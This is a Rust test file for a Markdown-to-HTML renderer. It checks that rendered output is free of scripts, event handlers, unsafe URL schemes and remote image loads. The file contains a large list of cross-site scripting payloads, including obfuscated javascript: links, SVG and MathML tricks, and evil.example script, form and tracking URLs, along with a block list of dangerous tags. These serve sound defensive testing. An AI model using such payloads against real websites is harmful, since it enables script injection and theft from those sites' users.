use std::cell::RefCell;

use super::{Href, to_html};

/// Resolves everything under `site/`, except paths that mention "hidden".
fn site(url: &str) -> Href {
    match url.contains("hidden") {
        true => Href::Text,
        false => Href::To(format!("site/{url}")),
    }
}

fn render(markdown: &str) -> String {
    let html = to_html(markdown, &site);
    assert_safe(&html);
    html
}

/// Renders `markdown` and returns what `resolve` was asked.
fn asked(markdown: &str) -> (String, Vec<String>) {
    let calls = RefCell::new(Vec::new());
    let html = to_html(markdown, &|url| {
        calls.borrow_mut().push(url.to_string());
        site(url)
    });
    assert_safe(&html);
    (html, calls.into_inner())
}

const TAGS: &[&str] = &[
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "p",
    "br",
    "hr",
    "ul",
    "ol",
    "li",
    "blockquote",
    "pre",
    "code",
    "em",
    "strong",
    "del",
    "a",
    "img",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "sup",
    "div",
];
const ATTRIBUTES: &[&str] = &["href", "src", "alt", "title", "id", "class", "start", "rel"];

/// Fails unless `html` is free of anything that could run or load something, or break the
/// page's CSP. Reads tags as html5ever writes them; anything else fails too.
fn assert_safe(html: &str) {
    let lower = html.to_ascii_lowercase();
    for bad in [
        "<script",
        "<iframe",
        "<frame",
        "<form",
        "<input",
        "<style",
        "<object",
        "<embed",
        "<base",
        "<meta",
        "<link",
        "<svg",
        "<math",
        "<button",
        "<textarea",
        "<!--",
    ] {
        assert!(!lower.contains(bad), "{bad} in {html}");
    }
    let mut rest = lower.as_str();
    while let Some(start) = rest.find('<') {
        assert!(!rest[..start].contains('>'), "stray > in {html}");
        let end = start + rest[start..].find('>').expect("tag ends");
        let tag = &rest[start + 1..end];
        rest = &rest[end + 1..];
        let (name, mut attrs) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(
            TAGS.contains(&name.trim_start_matches('/')),
            "<{name}> in {html}"
        );
        while let Some((key, after)) = attrs.trim_start().split_once("=\"") {
            let (value, next) = after.split_once('"').expect("quoted value");
            attrs = next;
            assert!(!key.starts_with("on"), "handler {key} in {html}");
            assert!(key != "style" && !key.contains("style"), "style= in {html}");
            assert!(ATTRIBUTES.contains(&key), "attribute {key} in {html}");
            let value: String = value
                .replace("&quot;", "\"")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&amp;", "&")
                .chars()
                .filter(|c| *c > ' ')
                .collect();
            for scheme in ["javascript:", "data:", "vbscript:"] {
                assert!(!value.starts_with(scheme), "{scheme} in {html}");
            }
            if key == "href" || key == "src" {
                let head = value.split(['/', '?', '#']).next().unwrap_or("");
                if let Some((scheme, _)) = head.split_once(':') {
                    let ok = ["http", "https", "mailto", "tel"].contains(&scheme);
                    assert!(ok, "{scheme}: in {html}");
                }
                assert!(
                    key == "href" || !value.contains(':'),
                    "remote image in {html}"
                );
            }
        }
        assert!(attrs.trim().is_empty(), "unreadable tag <{tag}> in {html}");
    }
    assert!(!rest.contains('>'), "stray > in {html}");
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "a <script src=https://evil.example/x.js></script> b",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "text <img src=\"x\" onerror=\"alert(1)\"// more",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "![x](javascript:alert(1))",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a> <a href=\"java\tscript:alert(1)\">y</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a> <a href=\"vbscript:msgbox(1)\">y</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=\"https://evil.example\"><input name=x><button>go</button></form>",
    "<style>body { display: none }</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "| a |\n|---|\n| <span style=\"color:red\">b</span> |",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <data:text/html,hi> \"t\"",
    "<div><a href=\"x\" onclick=\"alert(1)\">unclosed <b>tags <em>and <table><tr><td>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<select><style></style><img src onerror=alert(1)></select>",
    "<a href=\"file:///etc/passwd\">f</a> [g](file:///etc/passwd)",
    "<a href=\"x-docket-md:99\">p</a> <img src=\"x-docket-md:0\" alt=\"q\">",
    "x[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
    "<img src=\"https://evil.example/track.png\" onerror=alert(1)>",
    "<a href=\"https://ok.example\" target=_blank rel=opener>x</a>",
    "<img src=\"ok.png\" srcset=\"https://evil.example/a.png 2x\" alt=\"a\">",
    "<xmp><img src=x onerror=alert(1)></xmp> <plaintext><script>",
];

#[test]
fn hostile_inputs_come_out_safe() {
    let hostile_resolver = |url: &str| match url.len() % 3 {
        0 => Href::To("javascript:alert(1)".to_string()),
        1 => Href::To("\" onerror=\"alert(1)".to_string()),
        _ => Href::To("data:text/html,x".to_string()),
    };
    for input in HOSTILE {
        for html in [render(input), to_html(input, &|_| Href::Text)] {
            assert_safe(&html);
        }
        assert_safe(&to_html(input, &hostile_resolver));
        assert_eq!(render(input), render(input), "not deterministic: {input}");
    }
}

#[test]
fn resolver_sees_every_relative_url_as_written() {
    let markdown = "[a](orders/a.md#due) ![b](img/b.png) [c][ref] <c.md>\n\n\
                    <a href=\"../orders/x.md?v=1\">raw</a> <img src=\"raw.png\" alt=\"r\">\n\n\
                    [ref]: refs/c.md";
    let (html, calls) = asked(markdown);
    // `<c.md>` is neither an autolink (no scheme) nor a tag: it stays text.
    assert!(html.contains("&lt;c.md&gt;"), "{html}");
    let expected = [
        "orders/a.md#due",
        "img/b.png",
        "refs/c.md",
        "../orders/x.md?v=1",
        "raw.png",
    ];
    assert_eq!(calls.len(), expected.len(), "{calls:?}");
    for url in expected {
        assert!(calls.iter().any(|c| c == url), "{url} not asked: {calls:?}");
    }
    assert!(html.contains("href=\"site/orders/a.md#due\""), "{html}");
    assert!(
        html.contains("<img src=\"site/img/b.png\" alt=\"b\">"),
        "{html}"
    );
    assert!(html.contains("href=\"site/refs/c.md\""), "{html}");
    assert!(html.contains("href=\"site/../orders/x.md?v=1\""), "{html}");
    assert!(
        html.contains("<img src=\"site/raw.png\" alt=\"r\">"),
        "{html}"
    );
}

#[test]
fn text_drops_links_and_images() {
    let html = render("[kept *text*](hidden.md) and ![alt of it](hidden.png) end");
    assert_eq!(html, "<p>kept <em>text</em> and alt of it end</p>\n");
    let html =
        render("<a href=\"hidden.md\">raw <b>x</b></a> <img src=\"hidden.png\" alt=\"a &amp; b\">");
    assert_eq!(html, "<p>raw x a &amp; b</p>\n");
}

#[test]
fn absolute_links_are_kept_with_rel_and_bad_schemes_removed() {
    let (html, calls) = asked(
        "[w](https://example.com/a?b=1) [m](mailto:x@y.z) [t](tel:+331) <x@y.z> [j](javascript:alert(1)) <a href=\"//other.example\">s</a> [f](#note)",
    );
    assert!(calls.is_empty(), "{calls:?}");
    for href in [
        "https://example.com/a?b=1",
        "mailto:x@y.z",
        "tel:+331",
        "//other.example",
        "#md-note",
    ] {
        assert!(
            html.contains(&format!("<a href=\"{href}\" rel=\"noopener noreferrer\">")),
            "{href} in {html}"
        );
    }
    assert!(html.contains(" j "), "{html}");
}

#[test]
fn absolute_images_are_not_loaded() {
    let html = render(
        "![chart](https://example.com/c.png) ![](http://example.com/d.png) ![mail](mailto:x@y.z) ![d](data:image/png;base64,AA==)",
    );
    assert_eq!(
        html,
        "<p><a href=\"https://example.com/c.png\" rel=\"noopener noreferrer\">chart</a> \
         <a href=\"http://example.com/d.png\" rel=\"noopener noreferrer\">http://example.com/d.png</a> mail d</p>\n"
    );
    // Inside a link an image cannot become another link: its alt text stays.
    let html = render("[![logo](https://example.com/l.png)](https://example.com)");
    assert_eq!(
        html,
        "<p><a href=\"https://example.com\" rel=\"noopener noreferrer\">logo</a></p>\n"
    );
    // A resolver that answers with an absolute URL does not get an image loaded either.
    let html = to_html("![x](a.png)", &|_| {
        Href::To("https://cdn.example/a.png".into())
    });
    assert!(
        html.contains("<a href=\"https://cdn.example/a.png\""),
        "{html}"
    );
}

#[test]
fn tables_use_classes_not_styles() {
    let html = render("| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |");
    assert!(!html.contains("style"), "{html}");
    assert!(html.contains("<th class=\"align-left\">a</th><th class=\"align-center\">b</th><th class=\"align-right\">c</th><th>d</th>"), "{html}");
    assert!(html.contains("<td class=\"align-left\">1</td><td class=\"align-center\">2</td><td class=\"align-right\">3</td><td>4</td>"), "{html}");
}

#[test]
fn footnotes_link_to_their_definitions() {
    let html = render("Claim[^src].\n\n[^src]: Source, *p. 4*.");
    assert!(html.contains("<sup class=\"footnote-reference\"><a href=\"#md-src\" rel=\"noopener noreferrer\">1</a></sup>"), "{html}");
    assert!(html.contains("<div class=\"footnote-definition\" id=\"md-src\"><sup class=\"footnote-definition-label\">1</sup>"), "{html}");
}

#[test]
fn task_lists_are_marked_with_characters() {
    let html = render("- [ ] brief\n- [x] quote");
    assert_eq!(html, "<ul>\n<li>☐ brief</li>\n<li>☑ quote</li>\n</ul>\n");
}

/// Deepest nesting of the elements in `html`.
fn deepest(html: &str) -> usize {
    crate::parse::nesting::html_depth(html, usize::MAX)
}

#[test]
fn deep_markdown_is_flattened_at_the_limit() {
    let html = render(&format!("{} deep", ">".repeat(50_000)));
    assert_eq!(deepest(&html), super::MAX_DEPTH);
    let end = format!("\ndeep</blockquote>\n{}", "</blockquote>\n".repeat(31));
    assert!(html.ends_with(&end), "{:?}", &html[html.len() - 700..]);
    let html = render(&format!("{}[a](x.md) *b*", "1. - ".repeat(20_000)));
    assert!(deepest(&html) <= super::MAX_DEPTH, "{html}");
    assert!(html.contains("a b"), "{html}");
    // What is within the limit is as before.
    let within = format!("{} x", ">".repeat(super::MAX_DEPTH - 1));
    assert_eq!(deepest(&render(&within)), super::MAX_DEPTH);
}

#[test]
fn long_text_is_the_same_in_short_nodes() {
    let text = "a & b § c &x d 1 < 2 > 0 \u{a0}".repeat(2_000);
    let html = render(&text);
    let escaped = text
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('\u{a0}', "&nbsp;");
    let expected = format!("<p>{escaped}</p>\n");
    let same = html
        .bytes()
        .zip(expected.bytes())
        .take_while(|(a, b)| a == b)
        .count();
    assert_eq!(
        html.len(),
        expected.len(),
        "{}",
        &html[same.saturating_sub(50)..][..100]
    );
    assert_eq!(same, html.len());
    let split = super::split_text(&format!("<p title=\"{text}\">{text}</p><xmp>{text}</xmp>"));
    let (tag, rest) = split.split_at(text.len() + 12);
    let (p, xmp) = rest.split_once("</p>").unwrap_or_default();
    assert!(
        !tag.contains("<!---->") && !xmp.contains("<!---->"),
        "{tag}"
    );
    let splits = p.matches("<!---->").count();
    assert!(
        splits.abs_diff(text.len() / super::TEXT_RUN) <= 1,
        "{splits}"
    );
    assert!(!split.contains("&<!---->x"), "an entity was cut");
}

#[test]
fn deep_raw_html_becomes_text() {
    let markdown = format!("<div>\n{}\n\n*x* <b>y</b>", "<div>".repeat(50_000));
    let html = render(&markdown);
    assert!(
        html.starts_with("&lt;div&gt;\n&lt;div&gt;&lt;div&gt;"),
        "{}",
        &html[..100]
    );
    assert!(
        html.ends_with("<p><em>x</em> &lt;b&gt;y&lt;/b&gt;</p>\n"),
        "{}",
        &html[html.len() - 100..]
    );
    // Within the limit, raw HTML is kept (and sanitised).
    let html = render(&format!("{}x", "<div>".repeat(super::HTML_LIMIT)));
    assert_eq!(deepest(&html), super::HTML_LIMIT);
}

#[test]
fn commonmark_spec_examples_render_safely() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../shared/corpora/commonmark-spec/spec-0.31.2.json"
    );
    let Ok(text) = std::fs::read_to_string(path) else {
        println!("skipped: ../shared/corpora is not here");
        return;
    };
    let examples: Vec<serde_json::Value> = serde_json::from_str(&text).expect("spec JSON");
    assert_eq!(examples.len(), 652);
    for example in &examples {
        let markdown = example["markdown"].as_str().expect("markdown");
        let number = &example["number"];
        let html = to_html(markdown, &site);
        assert_eq!(
            html,
            to_html(markdown, &site),
            "example {number} not deterministic"
        );
        assert_safe(&html);
        assert_safe(&to_html(markdown, &|_| Href::Text));
    }
}
